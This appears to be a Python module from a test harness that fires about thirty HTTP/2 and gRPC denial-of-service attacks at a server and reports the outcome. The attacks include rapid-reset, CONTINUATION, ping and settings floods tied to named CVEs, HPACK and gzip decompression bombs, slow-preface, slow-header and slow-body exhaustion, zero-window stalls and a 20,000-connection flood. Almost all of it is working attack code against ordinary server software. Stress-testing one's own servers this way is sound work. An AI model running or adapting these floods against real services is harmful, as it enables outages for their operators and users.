"""The attack classes: each takes the server's address and a time to stop, and returns what became of the attacker."""

import gzip
import itertools
import os
import resource
import socket
import struct
import time

from frames import (
    ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, PRIORITY, RST_STREAM, SETTINGS,
    WINDOW_UPDATE, Peer, frame, integer, literal, message, request_headers,
)  # fmt: skip

UNARY = "/grpc.testing.TestService/UnaryCall"
UPLOAD = "/grpc.testing.TestService/StreamingInputCall"
DOWNLOAD = "/grpc.testing.TestService/StreamingOutputCall"
DUPLEX = "/grpc.testing.TestService/FullDuplexCall"
ATTACKS = {}


def attack(function):
    ATTACKS[function.__name__.replace("_", " ")] = function
    return function


def open_stream(stream, path, flags=END_HEADERS):
    return frame(HEADERS, flags, stream, request_headers(path))


def resets(address, until, code, *more):
    head = request_headers(UNARY, *more)

    def chunks():
        for first in itertools.count(1, 200):
            block = b"".join(
                frame(HEADERS, END_HEADERS, stream, head) + frame(RST_STREAM, 0, stream, struct.pack(">I", code))
                for stream in range(first, first + 200, 2)
            )
            yield block, 200

    return Peer(address).flood(chunks(), until)


@attack
def rapid_reset(address, until):
    """CVE-2023-44487: streams opened and reset at once."""
    return resets(address, until, 8)


@attack
def rapid_reset_without_error(address, until):
    """The same with the code that says that nothing is wrong."""
    return resets(address, until, 0)


@attack
def rapid_reset_past_deadline(address, until):
    """The same with deadlines so short that giving up looks honest."""
    return resets(address, until, 8, (b"grpc-timeout", b"9m"))


@attack
def late_reset_flood(address, until):
    """RST_STREAM over and over for a stream that is long closed."""
    peer = Peer(address)
    peer.send(open_stream(1, UNARY) + frame(RST_STREAM, 0, 1, struct.pack(">I", 8)))
    return peer.flood(itertools.repeat((frame(RST_STREAM, 0, 1, struct.pack(">I", 8)) * 1000, 1000)), until)


@attack
def late_data_flood(address, until):
    """DATA over and over for a stream that is long closed: HTTP/2 says that it is to be ignored."""
    peer = Peer(address)
    peer.send(open_stream(1, UNARY) + frame(RST_STREAM, 0, 1, struct.pack(">I", 8)))
    return peer.flood(itertools.repeat((frame(DATA, 0, 1) * 1000, 1000)), until)


@attack
def unknown_frame_flood(address, until):
    """Frames of a type that nobody has defined: HTTP/2 says that they are to be ignored."""
    return Peer(address).flood(itertools.repeat((frame(0x77, 0, 0) * 1000, 1000)), until)


@attack
def continuation_flood(address, until):
    """CVE-2024-28182: a header block that never ends."""
    peer = Peer(address)
    peer.send(frame(HEADERS, 0, 1, request_headers(UNARY)))
    more = frame(CONTINUATION, 0, 1, literal(b"x-a", b"b" * 1000))
    return peer.flood(itertools.repeat((more * 100, 100)), until)


@attack
def empty_continuation_flood(address, until):
    """The same with CONTINUATION frames that hold nothing."""
    peer = Peer(address)
    peer.send(frame(HEADERS, 0, 1, request_headers(UNARY)))
    return peer.flood(itertools.repeat((frame(CONTINUATION, 0, 1) * 1000, 1000)), until)


@attack
def ping_flood(address, until):
    """CVE-2019-9512."""
    return Peer(address).flood(itertools.repeat((frame(PING, 0, 0, b"12345678") * 1000, 1000)), until)


@attack
def ping_flood_unread(address, until):
    """CVE-2019-9512, the answers never read, so that they pile up at the server."""
    return Peer(address, read=False).flood(
        itertools.repeat((frame(PING, 0, 0, b"12345678") * 1000, 1000)), until
    )


@attack
def settings_flood(address, until):
    """CVE-2019-9515."""
    return Peer(address).flood(itertools.repeat((frame(SETTINGS) * 1000, 1000)), until)


@attack
def settings_ack_flood(address, until):
    """Acknowledgements of settings that were never sent."""
    return Peer(address).flood(itertools.repeat((frame(SETTINGS, ACK) * 1000, 1000)), until)


@attack
def window_update_flood(address, until):
    """Endless one-byte window updates on one stream."""
    peer = Peer(address)
    peer.send(open_stream(1, UPLOAD))
    update = frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1))
    return peer.flood(itertools.repeat((update * 1000, 1000)), until)


@attack
def empty_data_flood(address, until):
    """CVE-2019-9518."""
    peer = Peer(address)
    peer.send(open_stream(1, UPLOAD))
    return peer.flood(itertools.repeat((frame(DATA, 0, 1) * 1000, 1000)), until)


@attack
def padding_flood(address, until):
    """CVE-2019-9518 with frames that are not empty: they hold a byte that says that no padding follows."""
    peer = Peer(address)
    peer.send(open_stream(1, UPLOAD))
    return peer.flood(itertools.repeat((frame(DATA, 0x8, 1, b"\0") * 1000, 1000)), until)


@attack
def empty_message_flood(address, until):
    """Well-formed messages of no bytes, as many as the flow-control window takes."""
    peer = Peer(address)
    peer.send(open_stream(1, UPLOAD))
    return peer.flood(itertools.repeat((frame(DATA, 0, 1, message(b"") * 100), 1)), until)


@attack
def empty_messages_in_the_window(address, until):
    """The same from a peer that keeps to its windows: as many as the server takes."""
    peer = Peer(address)
    peer.agree()
    peer.send(open_stream(1, UPLOAD))
    body = message(b"") * 3000

    def chunks():
        while peer.take_window(1, len(body)):
            yield frame(DATA, 0, 1, body), 1

    return peer.flood(chunks(), until)


@attack
def queued_empty_messages(address, until):
    """Messages of no bytes for handlers that are busy: they wait, as many as the windows take."""
    # response_parameters (field 2) { size: 1, interval_us: 20,000,000 }
    busy = message(b"\x12\x07\x08\x01\x10\x80\xda\xc4\x09")
    body = message(b"") * 3000

    def start(address):
        peer = Peer(address)
        peer.agree()
        for stream in range(1, 201, 2):
            peer.send(open_stream(stream, DUPLEX) + frame(DATA, 0, stream, busy))
        for stream in range(1, 201, 2):
            while peer.take_window(stream, len(body), patience=0.005) and peer.send(frame(DATA, 0, stream, body)):
                pass
        return peer

    return many(address, 5, start, until, lambda peer: None)


@attack
def priority_flood(address, until):
    """PRIORITY frames that rebuild a dependency tree."""

    def chunks():
        for round_ in itertools.count():
            block = b"".join(
                frame(PRIORITY, 0, stream, struct.pack(">IB", (stream + 2 * (round_ % 7) + 2) % 4001, 15))
                for stream in range(1, 2001, 2)
            )
            yield block, 1000

    return Peer(address).flood(chunks(), until)


@attack
def hpack_bomb(address, until):
    """One large header put in the table, then named thousands of times in one block."""
    name, value = b"x-bomb", b"b" * 4000
    store = b"\x40" + integer(len(name), 7) + name + integer(len(value), 7) + value

    def chunks():
        block = request_headers(UNARY) + store + b"\xbe" * 8000
        yield frame(HEADERS, END_HEADERS, 1, block), 1
        for stream in itertools.count(3, 2):
            yield frame(HEADERS, END_HEADERS, stream, request_headers(UNARY) + b"\xbe" * 12000), 1

    return Peer(address).flood(chunks(), until)


def many(address, count, start, until, step):
    """Opens `count` connections with `start`, then lets `step` act on each in turn until the time is over."""
    peers = []
    for _ in range(count):
        try:
            peers.append(start(address))
        except OSError:
            break
    begun = time.monotonic()
    first_cut = None
    while time.monotonic() < until:
        for peer in peers:
            step(peer)
        if first_cut is None and any(peer.cut for peer in peers):
            first_cut = time.monotonic() - begun
        time.sleep(1)
    cut = sum(peer.cut for peer in peers)
    for peer in peers:
        peer.close()
    return f"{cut} of {len(peers)} cut" + (f", first after {first_cut:.0f} s" if first_cut is not None else "")


@attack
def slow_preface(address, until):
    """Connections that send the preface a byte a second."""
    position = {}

    def step(peer):
        at = position.get(peer, 0)
        peer.send(PREFACE[at : at + 1])
        position[peer] = at + 1

    return many(address, 200, lambda a: Peer(a, opening=False), until, step)


@attack
def slow_headers(address, until):
    """Connections that send their first request's headers a byte a second."""
    block = frame(HEADERS, END_HEADERS, 1, request_headers(UNARY))
    position = {}

    def step(peer):
        at = position.get(peer, 0)
        peer.send(block[at : at + 1])
        position[peer] = at + 1

    return many(address, 200, Peer, until, step)


@attack
def slow_body(address, until):
    """Calls whose message arrives a byte a second."""

    def start(address):
        peer = Peer(address)
        for stream in range(1, 41, 2):
            peer.send(open_stream(stream, UNARY) + frame(DATA, 0, stream, struct.pack(">BI", 0, 1000)))
        return peer

    def step(peer):
        for stream in range(1, 41, 2):
            peer.send(frame(DATA, 0, stream, b"\0"))

    return many(address, 50, start, until, step)


@attack
def zero_window(address, until):
    """Large answers asked for, and never a byte of window to send them in."""
    # SimpleRequest.response_size (field 2) = 1,000,000
    body = message(b"\x10" + b"\xc0\x84\x3d")

    def start(address):
        peer = Peer(address, window=0)
        for stream in range(1, 201, 2):
            peer.send(open_stream(stream, UNARY) + frame(DATA, END_STREAM, stream, body))
        return peer

    return many(address, 20, start, until, lambda peer: None)


@attack
def unread_answers(address, until):
    """Endless streams asked for with a full window on a socket that is never read."""
    parameters = b"\x12\x04\x08\xc0\x84\x3d"  # response_parameters { size: 1,000,000 }
    body = message(parameters * 1000)

    def start(address):
        peer = Peer(address, read=False, window=(1 << 31) - 1)
        peer.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", (1 << 31) - 1 - 65535)))
        for stream in range(1, 21, 2):
            peer.send(open_stream(stream, DOWNLOAD) + frame(DATA, END_STREAM, stream, body))
        return peer

    return many(address, 20, start, until, lambda peer: None)


@attack
def connect_flood(address, until):
    """20,000 connections at once that say nothing."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    host, port = address.rsplit(":", 1)
    wanted = min(20000, hard - 200)
    sockets = []
    for number in range(wanted):
        connection = socket.socket()
        connection.setblocking(False)
        connection.bind((f"127.0.0.{2 + number % 200}", 0))
        connection.connect_ex((host, int(port)))
        sockets.append(connection)
    while time.monotonic() < until:
        time.sleep(0.5)
    cut = 0
    for connection in sockets:
        try:
            cut += connection.recv(65536) == b""
        except BlockingIOError:
            pass
        except OSError:
            cut += 1
        connection.close()
    return f"{wanted:,} connects, {cut:,} cut"


@attack
def oversize_message(address, until):
    """Messages whose head claims 4 GiB, and messages of 5 MiB in full."""
    peer = Peer(address)

    def chunks():
        for stream in itertools.count(1, 4):
            claim = frame(DATA, 0, stream, struct.pack(">BI", 0, 0xFFFFFFFF) + bytes(1000))
            yield open_stream(stream, UNARY) + claim, 2
            head = frame(DATA, 0, stream + 2, struct.pack(">BI", 0, 5 << 20) + bytes(16000))
            yield open_stream(stream + 2, UNARY) + head + frame(DATA, 0, stream + 2, bytes(16000)), 3
            time.sleep(0.001)

    return peer.flood(chunks(), until)


@attack
def gzip_bomb(address, until):
    """Messages of 60 KB that inflate to 60 MB."""
    bomb = message(gzip.compress(bytes(60 << 20), 9), compressed=True)
    pieces = [bomb[at : at + 16000] for at in range(0, len(bomb), 16000)]
    answers = []
    stream_of = itertools.count(1, 2)
    peer = Peer(address)
    while time.monotonic() < until:
        stream = next(stream_of)
        head = frame(
            HEADERS, END_HEADERS, stream, request_headers(UNARY, (b"grpc-encoding", b"gzip"))
        )
        data = b"".join(
            frame(DATA, END_STREAM if index == len(pieces) - 1 else 0, stream, piece)
            for index, piece in enumerate(pieces)
        )
        if not peer.send(head + data, 1 + len(pieces)):
            answers.append(peer.fate())
            peer.close()
            if len(answers) >= 1000:
                break
            peer, stream_of = Peer(address), itertools.count(1, 2)
        time.sleep(0.01)
    return answers[-1] if answers else peer.fate()


@attack
def garbage(address, until):
    """Random bytes, with and without a preface."""
    cut = total = 0
    while time.monotonic() < until:
        peer = Peer(address, opening=total % 2 == 0)
        peer.send(os.urandom(4096))
        time.sleep(0.02)
        total += 1
        cut += peer.cut
        peer.close()
    return f"{cut} of {total} cut at once"


